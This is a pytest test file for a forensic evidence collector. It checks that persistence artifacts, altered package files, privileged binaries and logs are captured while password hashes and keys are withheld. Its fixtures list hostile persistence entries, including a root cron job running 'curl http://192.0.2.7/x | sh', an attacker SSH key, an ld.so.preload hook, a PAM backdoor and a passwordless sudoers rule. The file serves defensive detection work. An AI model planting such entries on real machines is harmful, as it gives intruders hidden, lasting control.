"""What an attacker leaves behind is in the package; without it, it is not."""

import hashlib
import os
import stat
import time
from datetime import timedelta

import pytest

from package_world import Scene
from quell_agent.package.sources import privileged

PLANTED = {
    "/etc/cron.d/dropper": "* * * * * root curl -s http://192.0.2.7/x | sh\n",
    "/var/spool/cron/crontabs/ann": "@reboot /home/ann/.cache/x\n",
    "/etc/systemd/system/update.service": "[Service]\nExecStart=/var/tmp/.x\nRestart=always\n",
    "/home/ann/.config/systemd/user/x.timer": "[Timer]\nOnBootSec=1\n",
    "/etc/systemd/system/ssh.service.d/override.conf": "[Service]\nExecStartPre=/tmp/x\n",
    "/root/.ssh/authorized_keys": "ssh-ed25519 AAAA attacker\n",
    "/etc/ld.so.preload": "/usr/local/lib/libx.so\n",
    "/home/ann/.bashrc": "alias sudo=/home/ann/.x\n",
    "/etc/profile.d/x.sh": "nohup /tmp/x &\n",
    "/etc/pam.d/sshd": "auth sufficient pam_x.so\n",
    "/etc/init.d/x": "#!/bin/sh\n",
    "/usr/lib/python3/dist-packages/x.pth": "import os; os.system('/tmp/x')\n",
    "/home/ann/.local/lib/python3.11/site-packages/usercustomize.py": "import x\n",
    "/etc/perl/sitecustomize.pl": "system('/tmp/x');\n",
    "/etc/udev/rules.d/99-x.rules": 'RUN+="/tmp/x"\n',
    "/etc/xdg/autostart/x.desktop": "Exec=/tmp/x\n",
    "/etc/apt/apt.conf.d/99x": 'APT::Update::Pre-Invoke {"/tmp/x"};\n',
    "/etc/sudoers.d/ann": "ann ALL=(ALL) NOPASSWD: ALL\n",
    "/home/ann/.bash_history": "curl http://192.0.2.7/x | sh\n",
    "/etc/modules-load.d/x.conf": "rootkit\n",
    "/var/log/auth.log": "Accepted publickey for root from 192.0.2.7\n",
}


async def test_what_starts_by_itself_is_copied(scene: Scene) -> None:
    """Each with its bytes, digest, owner and times; control: a clean machine has none of them in its package."""
    clean = await scene.package()
    assert [path for path in PLANTED if clean.item(path)] == []
    for path, content in PLANTED.items():
        scene.file(path, content)
    found = await scene.package()
    for path, content in PLANTED.items():
        item = found.item(path)
        assert item is not None, path
        assert found.content(path) == content.encode()
        assert (item["status"], item["size"], item["uid"]) == ("COLLECTED", len(content), os.getuid())
        assert item["sha256"] == hashlib.sha256(content.encode()).hexdigest()
        assert item["modify_time"] == pytest.approx(scene.place(path).stat().st_mtime)


async def test_an_enabled_unit_is_told_by_its_link(scene: Scene) -> None:
    """Where it leads is told, and it is not followed."""
    folder = scene.place("/etc/systemd/system/multi-user.target.wants")
    folder.mkdir(parents=True)
    (folder / "x.service").symlink_to("/etc/systemd/system/update.service")
    found = await scene.package()
    item = found.item("/etc/systemd/system/multi-user.target.wants/x.service")
    assert item is not None
    assert (item["status"], item["link"]) == ("LISTED", "/etc/systemd/system/update.service")
    assert "entry" not in item


async def test_logs_are_those_of_the_window(scene: Scene) -> None:
    """An old one stays where it is, and comes with a longer window."""
    old = scene.file("/var/log/x/old.log", "long ago")
    scene.file("/var/log/x/new.log", "just now")
    os.utime(old, (time.time() - 3 * 86400,) * 2)
    found = await scene.package(window=timedelta(days=1))
    assert (found.status("/var/log/x/old.log"), found.status("/var/log/x/new.log")) == ("", "COLLECTED")
    longer = await scene.package(window=timedelta(days=4))
    assert longer.content("/var/log/x/old.log") == b"long ago"


async def test_a_changed_file_of_a_package_is_listed(scene: Scene) -> None:
    """Changed, missing, no file any more, changed configuration; what is intact is not named."""
    md5 = {name: hashlib.md5(name.encode(), usedforsecurity=False).hexdigest() for name in ("a", "b", "c", "d", "e")}
    for name in md5:
        scene.file(f"/usr/bin/{name}", name).chmod(0o755)
    scene.file("/etc/x.conf", "set by the administrator")
    sums = "".join(f"{digest}  usr/bin/{name}\n" for name, digest in md5.items())
    scene.file("/var/lib/dpkg/info/x.md5sums", sums)
    scene.file("/var/lib/dpkg/status", f"Package: x\nConffiles:\n /etc/x.conf {md5['a']}\nVersion: 1\n")
    before = await scene.package()
    assert [row["path"] for row in before.rows("packages/differences.json")] == ["/etc/x.conf"]
    # As long as before, and as old: only its content tells.
    changed = scene.place("/usr/bin/a")
    status = changed.stat()
    changed.write_text("A")
    os.utime(changed, ns=(status.st_atime_ns, status.st_mtime_ns))
    scene.place("/usr/bin/b").unlink()
    scene.place("/usr/bin/c").unlink()
    scene.place("/usr/bin/c").symlink_to("/usr/bin/d")
    after = await scene.package()
    rows = {row["path"]: row["what"] for row in after.rows("packages/differences.json")}
    expected = {"/usr/bin/a": "CHANGED", "/usr/bin/b": "MISSING", "/usr/bin/c": "NOT_A_FILE", "/etc/x.conf": "CHANGED"}
    assert rows == expected
    assert after.rows("packages/verification.json")[0]["files_read"] == 6


async def test_mere_data_is_read_once_it_has_changed_since_installation(scene: Scene) -> None:
    """A document as old as its package is taken as it is; one that was written to later is compared."""
    scene.file("/usr/share/doc/x/README", "fine")
    digest = hashlib.md5(b"fine", usedforsecurity=False).hexdigest()
    scene.file("/var/lib/dpkg/info/x.md5sums", f"{digest}  usr/share/doc/x/README\n")
    before = await scene.package()
    assert before.rows("packages/verification.json") == [{"packages": 1, "files_read": 0, "files_by_time": 1}]
    scene.file("/usr/share/doc/x/README", "evil")
    after = await scene.package()
    assert [row["what"] for row in after.rows("packages/differences.json")] == ["CHANGED"]


async def test_files_with_more_rights_are_found_wherever_they_lie(scene: Scene) -> None:
    """Set-user-id deep in a home; control: as long as it is not set, it is not listed."""
    file = scene.file("/home/ann/.cache/deep/er/x", "payload")
    file.chmod(0o755)
    clean = await scene.package()
    assert clean.rows("privileged-files/files.json") == []
    file.chmod(0o4755)
    (row,) = (await scene.package()).rows("privileged-files/files.json")
    assert (row["path"], row["mode"]) == ("/home/ann/.cache/deep/er/x", stat.filemode(0o104755))
    assert row["sha256"] == hashlib.sha256(b"payload").hexdigest()


@pytest.mark.root
@pytest.mark.skipif(os.geteuid() != 0, reason="capabilities of files need root")
async def test_a_file_with_capabilities_is_found(scene: Scene) -> None:
    """By name, as `setcap` has them; control: without them it is not listed."""
    file = scene.file("/opt/x", "payload")
    file.chmod(0o755)
    assert (await scene.package()).rows("privileged-files/files.json") == []
    os.setxattr(file, privileged.ATTRIBUTE, bytes.fromhex("0100000280000000000000000000000000000000"))
    (row,) = (await scene.package()).rows("privileged-files/files.json")
    assert (row["path"], row["capabilities"], row["effective"]) == ("/opt/x", ["setuid"], True)


async def test_credentials_stay(scene: Scene) -> None:
    """Hashes and keys are told of, not copied: neither in a copy nor in a list; how an account is locked is told."""
    secret = "$y$j9T$THE-SALT$THE-HASH"  # noqa: S105 - it is the one that must not be found
    scene.file("/etc/shadow", f"root:!:20000:0:99999:7:::\nann:{secret}:20001:0:99999:7:::\n")
    scene.file("/root/.ssh/id_ed25519", "THE-HASH")
    scene.file("/etc/kubernetes/admin.conf", "THE-HASH")
    found = await scene.package()
    assert found.status("/etc/shadow") == "LEFT_OUT SECRET"
    assert found.status("/etc/kubernetes/admin.conf") == "LEFT_OUT SECRET"
    assert [name for name in found.zip.namelist() if b"THE-HASH" in found.zip.read(name)] == []
    accounts = {row["name"]: row["password"] for row in found.rows("accounts/accounts.json")}
    assert accounts == {"root": "LOCKED", "ann": "y"}
